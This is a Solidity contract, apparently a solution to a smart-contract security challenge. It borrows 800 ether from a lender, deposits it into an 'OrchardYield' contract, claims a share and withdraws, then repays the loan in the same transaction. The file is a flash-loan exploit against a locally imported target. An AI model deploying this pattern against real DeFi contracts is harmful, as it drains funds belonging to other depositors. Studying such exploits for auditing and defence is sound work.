// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import "./contract.sol";
import "./support.sol";

contract Passer is IBorrower {
    OrchardYield private immutable orchard;
    Lender private immutable lender;

    constructor(OrchardYield target, Lender from) {
        orchard = target;
        lender = from;
    }

    function run() external {
        lender.lend(800 ether);
    }

    function pass(uint256 amount) external {
        lender.lend(amount);
    }

    function lent(uint256 amount) external payable {
        orchard.keep{value: amount}();
        orchard.share();
        orchard.leave();
        (bool paid, ) = address(lender).call{value: amount}("");
        require(paid);
    }

    receive() external payable {}
}
